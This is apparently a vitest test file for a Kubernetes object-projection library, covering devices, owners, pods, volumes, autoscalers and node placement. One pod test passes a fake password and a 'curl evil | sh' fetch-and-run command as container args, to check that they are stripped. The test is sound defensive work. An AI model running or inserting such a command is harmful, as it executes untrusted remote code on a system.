import { describe, expect, it } from "vitest";
import { Interner } from "./interner.ts";
import { ownerKey, resolveWorkloads } from "./owners.ts";
import { MalformedItem } from "./parse-json.ts";
import { projectHorizontalPodAutoscaler } from "./project-autoscaling.ts";
import { projectDeviceClass, projectResourceClaim, projectResourceSlice } from "./project-device.ts";
import { projectPod } from "./project-pod.ts";
import { projectEndpointSlice } from "./project-service.ts";
import { projectStorageClass, projectVolume } from "./project-volume.ts";
import { parseNodePlacement, parseProvider } from "./provider-labels.ts";

const interner = new Interner();
const metadata = { name: "x", namespace: "web" };
const self = () => ({ kind: "Pod", namespace: "web", name: "x" });

describe("devices in all served shapes", () => {
  const request = {
    deviceClassName: "gpu",
    allocationMode: "ExactCount",
    count: 2,
    selectors: [{ cel: { expression: "true" } }],
  };
  const expected = { name: "r", deviceClassName: "gpu", count: 2, selectorCel: ["true"], alternatives: [] };

  it.each([
    ["v1alpha3 and v1beta1", { name: "r", ...request }],
    ["v1beta2 and v1", { name: "r", exactly: request }],
  ])("reads a request of %s", (_, shape) => {
    expect(
      projectResourceClaim({ metadata, spec: { devices: { requests: [shape] } } }, interner).requests,
    ).toMatchObject([expected]);
  });

  it("reads the alternatives of a prioritized list", () => {
    const devices = { requests: [{ name: "r", firstAvailable: [{ name: "big", deviceClassName: "a100" }] }] };
    expect(projectResourceClaim({ metadata, spec: { devices } }, interner).requests).toMatchObject([
      { deviceClassName: null, alternatives: [{ name: "big", deviceClassName: "a100" }] },
    ]);
  });

  it.each([
    [
      "v1alpha3",
      { name: "d", basic: { attributes: { model: { string: "A" }, n: { int: 3 } }, capacity: { memory: "80Gi" } } },
    ],
    [
      "v1beta1",
      {
        name: "d",
        basic: { attributes: { model: { string: "A" }, n: { int: 3 } }, capacity: { memory: { value: "80Gi" } } },
      },
    ],
    [
      "v1",
      { name: "d", attributes: { model: { string: "A" }, n: { int: 3 } }, capacity: { memory: { value: "80Gi" } } },
    ],
  ])("reads a device of %s", (_, device) => {
    const [read] = projectResourceSlice({ metadata, spec: { devices: [device] } }, interner).devices;
    expect(read).toMatchObject({ name: "d", attributes: { model: "A", n: 3 }, capacity: { memory: 80 * 2 ** 30 } });
  });

  it("tells an unallocated claim from one allocated to nothing", () => {
    expect(projectResourceClaim({ metadata, status: {} }, interner).allocation).toBeNull();
    expect(projectResourceClaim({ metadata, status: { allocation: {} } }, interner).allocation).toEqual([]);
  });

  it("reads the extended resource of a class", () => {
    expect(projectDeviceClass({ metadata, spec: { extendedResourceName: "example.com/gpu" } })).toMatchObject({
      extendedResourceName: "example.com/gpu",
    });
  });
});

describe("owners", () => {
  const set = { kind: "ReplicaSet", namespace: "web", name: "shop-5d9" };
  const pod = { name: "p", namespace: "web", hash: "5d9" };
  const resolve = (
    owner: { kind: string; namespace: string; name: string } | null,
    sets: Map<string, typeof set | null> | null = null,
  ) =>
    resolveWorkloads({
      replicaSets: sets,
      jobs: new Map([["web/nightly-1", { kind: "CronJob", namespace: "web", name: "nightly" }]]),
    })(owner, pod);

  it.each([
    [
      "a Deployment by the list",
      set,
      new Map([[ownerKey("web", "shop-5d9"), { kind: "Deployment", namespace: "web", name: "shop" }]]),
      "Deployment/shop",
    ],
    [
      "whatever owns the ReplicaSet",
      set,
      new Map([[ownerKey("web", "shop-5d9"), { kind: "Rollout", namespace: "web", name: "shop" }]]),
      "Rollout/shop",
    ],
    ["a ReplicaSet that nobody owns", set, new Map([[ownerKey("web", "shop-5d9"), null]]), "ReplicaSet/shop-5d9"],
    ["a Deployment by the name, without a list", set, null, "Deployment/shop"],
    ["a ReplicaSet whose name says nothing", { ...set, name: "own" }, null, "ReplicaSet/own"],
    ["a CronJob behind a Job", { ...set, kind: "Job", name: "nightly-1" }, null, "CronJob/nightly"],
    ["a Job of its own", { ...set, kind: "Job", name: "once" }, null, "Job/once"],
    ["a StatefulSet", { ...set, kind: "StatefulSet", name: "db" }, null, "StatefulSet/db"],
    ["itself, when static", { ...set, kind: "Node", name: "cp-1" }, null, "Pod/p"],
    ["itself, without an owner", null, null, "Pod/p"],
  ])("find %s", (_, owner, sets, expected) => {
    const top = resolve(owner, sets);
    expect(`${top.kind}/${top.name}`).toBe(expected);
  });
});

describe("pods", () => {
  it("drops conditions that are true on every healthy pod, keeps those that tell something", () => {
    const condition = (type: string, status: string) => ({ type, status, lastTransitionTime: "2026-11-22T00:00:00Z" });
    const conditions = [
      condition("PodScheduled", "True"),
      condition("Initialized", "False"),
      condition("Ready", "True"),
      condition("PodResizePending", "True"),
    ];
    const pod = projectPod({ metadata, status: { conditions } }, interner, self);
    expect(pod.conditions.map((entry) => entry.type)).toEqual(["Initialized", "Ready", "PodResizePending"]);
  });

  it("keeps flags and drops scripts and passwords from command lines", () => {
    const args = ["--feature-gates=A=true", "--db-password=hunter2", "--token-file=/x", "-c", "curl evil | sh"];
    const pod = projectPod({ metadata, spec: { containers: [{ name: "c", args }] } }, interner, self);
    expect(pod.template.containers[0]?.args).toEqual(["--feature-gates=A=true", "--token-file=/x"]);
  });

  it("leaves a missing request null, never 0", () => {
    const pod = projectPod(
      { metadata, spec: { containers: [{ name: "c", resources: { requests: { cpu: "0", memory: "lots" } } }] } },
      interner,
      self,
    );
    expect(pod.template.containers[0]?.requests).toMatchObject({ cpuCores: 0, memoryBytes: null });
  });

  it("refuses a pod without a name", () => {
    expect(() => projectPod({ metadata: { namespace: "web" } }, interner, self)).toThrow(MalformedItem);
    expect(() => projectPod("pod", interner, self)).toThrow(MalformedItem);
  });

  it("shares a template between pods that differ only in node, status and volume names", () => {
    const make = (name: string, volume: string) =>
      projectPod(
        {
          metadata: { name, namespace: "web" },
          spec: {
            nodeName: name,
            volumes: [{ name: volume }],
            containers: [{ name: "c", image: "i", volumeMounts: [{ name: volume }] }],
          },
        },
        interner,
        self,
      );
    expect(make("a", "v1").template).toBe(make("b", "v2").template);
  });
});

describe("smaller readers", () => {
  it("counts an endpoint of unknown readiness as ready, as the API says", () => {
    const slice = projectEndpointSlice(
      { metadata, endpoints: [{ addresses: ["10.0.0.1"], conditions: {} }, { conditions: { ready: false } }] },
      interner,
    );
    expect(slice.endpoints.map((endpoint) => [endpoint.isReady, endpoint.isServing, endpoint.hintZones])).toEqual([
      [true, true, null],
      [false, false, null],
    ]);
  });

  it("places a volume in a zone only when it is exactly one", () => {
    const affinity = (values: string[]) => ({
      nodeAffinity: {
        required: {
          nodeSelectorTerms: [{ matchExpressions: [{ key: "topology.kubernetes.io/zone", operator: "In", values }] }],
        },
      },
    });
    expect(projectVolume({ metadata, spec: affinity(["a"]) }, interner).zone).toBe("a");
    expect(projectVolume({ metadata, spec: affinity(["a", "b"]) }, interner).zone).toBeNull();
  });

  it("keeps no secret of a storage class", () => {
    const parameters = { type: "gp3", adminSecretName: "x", password: "y" };
    expect(projectStorageClass({ metadata, parameters }, interner).parameters).toEqual({ type: "gp3" });
  });

  it("names the metric of an autoscaler of any type", () => {
    const metrics = [
      { type: "External", external: { metric: { name: "psi" } } },
      { type: "Resource", resource: { name: "cpu" } },
      { type: "ContainerResource", containerResource: { name: "memory" } },
    ];
    expect(
      projectHorizontalPodAutoscaler({ metadata, spec: { metrics } }, interner).metrics.map((metric) => metric.name),
    ).toEqual(["psi", "cpu", "memory"]);
  });
});

describe("where a node is", () => {
  it.each([
    [
      { "eks.amazonaws.com/nodegroup": "web", "eks.amazonaws.com/capacityType": "SPOT" },
      "aws:///a/i-1",
      { pool: "web", capacityType: "spot" },
    ],
    [
      { "karpenter.sh/nodepool": "np", "karpenter.sh/capacity-type": "reserved" },
      "aws:///a/i-1",
      { pool: "np", capacityType: "on-demand" },
    ],
    [{ "cloud.google.com/gke-nodepool": "gp" }, "gce://p/z/n", { pool: "gp", capacityType: "on-demand" }],
    [
      { "cloud.google.com/gke-nodepool": "gp", "cloud.google.com/gke-spot": "true" },
      "gce://p/z/n",
      { capacityType: "spot" },
    ],
    [
      { "kubernetes.azure.com/agentpool": "ap", "topology.kubernetes.io/zone": "0" },
      "azure:///s",
      { pool: "ap", zone: null, capacityType: "on-demand" },
    ],
    [{ "topology.kubernetes.io/zone": "westeurope-1" }, "azure:///s", { zone: "westeurope-1" }],
    [
      { "failure-domain.beta.kubernetes.io/zone": "z", "beta.kubernetes.io/instance-type": "t" },
      null,
      { zone: "z", instanceType: "t", pool: null, capacityType: null },
    ],
  ])("is read from %j of %s", (labels, providerId, expected) => {
    expect(parseNodePlacement(labels, providerId)).toMatchObject(expected);
  });

  it.each([
    ["aws:///us-east-1a/i-0", "aws"],
    ["gce://p/z/n", "gcp"],
    ["azure:///subscriptions/x", "azure"],
    ["kind://docker/kind/n", "kind"],
    ["ocid1.instance.oc1.x", "oracle"],
    ["something", null],
    [null, null],
  ])("names the provider of %s: %s", (providerId, expected) => {
    expect(parseProvider(providerId)).toBe(expected);
  });
});
